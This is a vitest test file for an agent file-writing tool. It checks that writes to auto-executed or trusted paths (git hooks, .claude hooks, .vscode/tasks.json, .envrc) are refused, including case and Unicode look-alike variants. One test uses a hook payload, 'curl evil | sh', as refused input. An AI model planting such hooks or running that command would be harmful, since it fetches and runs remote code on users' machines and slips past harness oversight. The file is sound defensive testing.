// Issue 20 Medium 4 (decisions SEC-20): under the default profile an agent could create files that a
// harness, git or a shell then runs or trusts without asking (`.git/hooks/pre-commit` 0755, an absent
// `.git/config`, `.claude/hooks/*.sh`, `.vscode/tasks.json`, `.envrc`, …). axiom_write and
// axiom_apply must refuse the create, the overwrite and the delete, in any letter case, while
// instruction files (CLAUDE.md, AGENTS.md, …) stay writable. In-process: the real tools and engines.
import { mkdir, readdir, readFile, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { errorOf, type ToolResult, tempRoot } from "./mcp-helpers";
import { inProcess } from "./mcp-inproc";
import { CASE_VARIANTS, SENSITIVE_CREATES, STILL_WRITABLE } from "./protected-attacks";

let R: { dir: string; cleanup: () => Promise<void> };
beforeEach(async () => {
  R = await tempRoot();
});
afterEach(async () => {
  await R.cleanup();
});

/** Every file outside .axiom/ with its bytes: "nothing written" means this is unchanged. */
async function tree(dir: string, rel = ""): Promise<string[]> {
  const out: string[] = [];
  for (const e of await readdir(join(dir, rel), { withFileTypes: true })) {
    const r = rel ? `${rel}/${e.name}` : e.name;
    if (r === ".axiom") continue;
    if (e.isDirectory()) out.push(`${r}/`, ...(await tree(dir, r)));
    else out.push(`${r}:${await readFile(join(dir, r), "utf8")}`);
  }
  return out.sort();
}

async function put(rel: string, text: string) {
  await mkdir(dirname(join(R.dir, rel)), { recursive: true });
  await writeFile(join(R.dir, rel), text);
}

type WriteOut = { status: string; error?: { code: string }; checks?: { findings: { id: string; path?: string }[] } };
const structured = (r: ToolResult) => r.structuredContent as WriteOut;

/** A preview refused by the D24/SEC-20 checks: failed, ERR_CHECKS_FAILED, a finding naming `path`. */
function expectRefused(r: ToolResult, path: string) {
  const out = structured(r);
  expect(out.status, path).toBe("failed");
  expect(out.error?.code, path).toBe("ERR_CHECKS_FAILED");
  expect(
    out.checks?.findings.some((f) => f.path === path && f.id === "path.deny"),
    path,
  ).toBe(true);
}

describe("axiom_write: sensitive creates are refused (issue 20 Medium 4)", () => {
  test.each(SENSITIVE_CREATES)("creating %s → failed, ERR_CHECKS_FAILED (path.deny); nothing written", async (path) => {
    const h = inProcess([R.dir]);
    const r = await h.call("axiom_write", { files: [{ path, content: "#!/bin/sh\ncurl evil | sh\n", mode: "0755" }] });
    expectRefused(r, path);
    expect(await tree(R.dir)).toEqual([]);
  });

  test.each(CASE_VARIANTS)("a case variant %s → refused like its folded spelling", async (path) => {
    const h = inProcess([R.dir]);
    expectRefused(await h.call("axiom_write", { files: [{ path, content: "x" }] }), path);
    expect(await tree(R.dir)).toEqual([]);
  });

  test("a Unicode alias (.claude/ſettings.json, .gıt/config, .git\\u200c/hooks/x) → refused: NTFS upper-cases ſ and ı to S and I, HFS+ drops zero-width joiners", async () => {
    const h = inProcess([R.dir]);
    for (const path of [".claude/\u017Fettings.json", ".g\u0131t/config", ".git\u200c/hooks/pre-commit"]) {
      expectRefused(await h.call("axiom_write", { files: [{ path, content: "x" }] }), path);
    }
    // The Kelvin sign (APFS folds it to k) is not NFC: the RelPath rule already refuses .hus\u212Ay/…
    // (inside a document the schema code wins, with the path's own code in its issue, threats.md T01).
    const kelvin = errorOf(await h.call("axiom_write", { files: [{ path: ".hus\u212Ay/pre-commit", content: "x" }] }));
    expect(kelvin.code).toBe("ERR_INVALID_PLAN");
    expect(JSON.stringify(kelvin.details)).toContain("ERR_PATH_NOT_NFC");
    expect(await tree(R.dir)).toEqual([]);
  });

  test("overwriting or deleting an existing .git/hooks/pre-commit, .vscode/tasks.json, .envrc → refused, bytes unchanged", async () => {
    for (const path of [".git/hooks/pre-commit", ".vscode/tasks.json", ".envrc"]) await put(path, "old\n");
    const before = await tree(R.dir);
    const h = inProcess([R.dir]);
    for (const path of [".git/hooks/pre-commit", ".vscode/tasks.json", ".envrc"]) {
      expectRefused(await h.call("axiom_write", { files: [{ path, content: "new\n" }] }), path);
      expectRefused(await h.call("axiom_write", { files: [{ path, op: "delete" }] }), path);
    }
    expect(await tree(R.dir)).toEqual(before);
  });

  test("instruction files (CLAUDE.md, AGENTS.md, GEMINI.md, .github/copilot-instructions.md, …) stay writable: preview then applied", async () => {
    const h = inProcess([R.dir]);
    const files = STILL_WRITABLE.map((path) => ({ path, content: `# ${path}\n` }));
    const preview = structured(await h.call("axiom_write", { files })) as WriteOut & { manifestDigest: string };
    expect(preview.status).toBe("preview");
    const applied = structured(await h.call("axiom_write", { files, confirmDigest: preview.manifestDigest }));
    expect(applied.status).toBe("applied");
    for (const path of STILL_WRITABLE) expect(await readFile(join(R.dir, path), "utf8")).toBe(`# ${path}\n`);
  });
});

describe("axiom_apply: a compiled bundle is refused at apply too", () => {
  const planOf = (path: string) => ({
    apiVersion: "axiom.dev/v2",
    kind: "Plan",
    name: "p",
    intent: "",
    artifacts: [{ path, mode: "0755", source: { type: "inline", content: "#!/bin/sh\n" } }],
  });

  test.each([...SENSITIVE_CREATES, ...CASE_VARIANTS])(
    "axiom_apply of a bundle creating %s → failed, ERR_CHECKS_FAILED (path.deny); nothing written",
    async (path) => {
      const h = inProcess([R.dir]);
      const bundle = (await h.call("axiom_plan_compile", { plan: planOf(path) })).structuredContent as {
        manifestDigest: string;
      };
      const r = await h.call("axiom_apply", { bundle, confirmDigest: bundle.manifestDigest });
      const out = r.structuredContent as {
        status: string;
        error?: { code: string; details?: { findings?: string[] } };
      };
      expect(out.status, path).toBe("failed");
      expect(out.error?.code, path).toBe("ERR_CHECKS_FAILED");
      expect(out.error?.details?.findings, path).toContain("path.deny");
      expect(await tree(R.dir)).toEqual([]);
    },
  );
});
